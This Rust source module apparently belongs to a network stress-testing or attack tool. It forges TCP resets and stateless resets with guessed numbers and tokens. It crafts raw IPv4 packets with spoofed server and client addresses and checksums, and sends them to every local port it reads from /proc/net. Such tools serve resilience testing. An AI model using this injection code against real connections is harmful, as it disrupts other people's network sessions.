//! Resets in others' names: needs root for their addresses; without, they come from the attacker's own.

use super::{Common, paced};
use anyhow::Result;
use base::{Rng, Span};
use rustix::net::{AddressFamily, RawProtocol, SendFlags, SocketFlags, SocketType, sendto};
use std::fs::read_to_string;
use std::net::{IpAddr, Ipv4Addr, SocketAddr, UdpSocket};
use std::os::fd::OwnedFd;
use std::sync::Arc;

/// The protocol of a raw socket whose packets have their own IP headers (`IPPROTO_RAW`, raw(7)).
const RAW: u32 = 255;
const TCP: u8 = 6;
const UDP: u8 = 17;
/// Ports that are taken from the system's list at a time.
const PORTS: usize = 64;

/// Local ports of a list of the kernel's (`/proc/net/udp`, `/proc/net/tcp`), the servers' left out.
fn ports(list: &str, servers: &[SocketAddr]) -> Vec<u16> {
    let text = read_to_string(list).unwrap_or_default();
    let port = |l: &str| u16::from_str_radix(l.split_whitespace().nth(1)?.split(':').nth(1)?, 16).ok();
    let all = text.lines().skip(1).filter_map(port);
    all.filter(|p| servers.iter().all(|s| s.port() != *p)).take(PORTS).collect()
}

/// The sum that IP and TCP have (RFC 1071).
fn checksum(parts: &[&[u8]]) -> [u8; 2] {
    let words = parts.iter().flat_map(|p| p.chunks(2));
    let mut sum: u32 = words.map(|w| u32::from(w[0]) << 8 | u32::from(*w.get(1).unwrap_or(&0))).sum();
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    (!(sum as u16)).to_be_bytes()
}

/// A packet of IPv4 from one to another.
fn packet(from: (Ipv4Addr, u16), to: (Ipv4Addr, u16), protocol: u8, body: &[u8]) -> Vec<u8> {
    let mut segment = [from.1.to_be_bytes(), to.1.to_be_bytes()].concat();
    if protocol == UDP {
        // Without a checksum, which IPv4 allows.
        segment.extend((8 + body.len() as u16).to_be_bytes());
        segment.extend([0, 0]);
        segment.extend(body);
    } else {
        // Sequence number, acknowledgement, RST, no window.
        segment.extend(&body[..8]);
        segment.extend([0x50, 0x04, 0, 0, 0, 0, 0, 0]);
        let pseudo = [&from.0.octets()[..], &to.0.octets(), &[0, protocol, 0, segment.len() as u8]].concat();
        let sum = checksum(&[&pseudo, &segment]);
        segment[16..18].copy_from_slice(&sum);
    }
    let len = 20 + segment.len() as u16;
    let mut p = vec![0x45, 0];
    p.extend(len.to_be_bytes());
    p.extend([0, 0, 0, 0, 64, protocol, 0, 0]);
    p.extend(from.0.octets());
    p.extend(to.0.octets());
    let sum = checksum(&[&p]);
    p[10..12].copy_from_slice(&sum);
    p.extend(segment);
    p
}

fn raw() -> Option<OwnedFd> {
    let protocol = RawProtocol::new(RAW)?;
    let protocol = rustix::net::Protocol::from_raw(protocol);
    rustix::net::socket_with(AddressFamily::INET, SocketType::RAW, SocketFlags::CLOEXEC, Some(protocol)).ok()
}

/// Stateless resets with guessed tokens and resets of TCP with guessed numbers, in both directions between the servers and every port
/// of this machine, which the other client's are among.
pub fn resets(c: &Arc<Common>) -> Result<()> {
    let (sent, mut rng, raw) = (c.count("forged resets"), Rng::from_u64(5), raw());
    let own = UdpSocket::bind((c.target.from, 0))?;
    let servers = c.target.servers();
    paced(c, Span::from_millis(100), 1, || {
        for (protocol, list) in [(UDP, "/proc/net/udp"), (TCP, "/proc/net/tcp")] {
            for port in ports(list, &servers) {
                for s in servers {
                    let IpAddr::V4(ip) = s.ip() else { continue };
                    let (server, client) = ((ip, s.port()), (Ipv4Addr::LOCALHOST, port));
                    for (from, to) in [(server, client), (client, server)] {
                        let mut body = [0; 40];
                        rng.fill(&mut body);
                        // A short header.
                        body[0] &= 0x7f;
                        match &raw {
                            Some(fd) => {
                                let p = packet(from, to, protocol, &body);
                                let _ = sendto(fd, &p, SendFlags::DONTWAIT, &SocketAddr::new(to.0.into(), 0));
                            }
                            None if protocol == UDP => {
                                let _ = own.send_to(&body, SocketAddr::new(to.0.into(), to.1));
                            }
                            None => continue,
                        }
                        Common::add(&sent);
                    }
                }
            }
        }
        Ok(())
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn forged_packets_have_the_sums_that_the_kernel_checks() {
        let (a, b) = ((Ipv4Addr::LOCALHOST, 1), (Ipv4Addr::new(127, 0, 0, 2), 2));
        let p = packet(a, b, TCP, &[9; 8]);
        assert_eq!((p.len(), checksum(&[&p[..20]])), (40, [0, 0]));
        let pseudo = [&p[12..20], &[0, TCP, 0, 20]].concat();
        assert_eq!(checksum(&[&pseudo, &p[20..]]), [0, 0]);
        assert_eq!(packet(a, b, UDP, &[1; 40])[24..26], [0, 48]);
    }
}
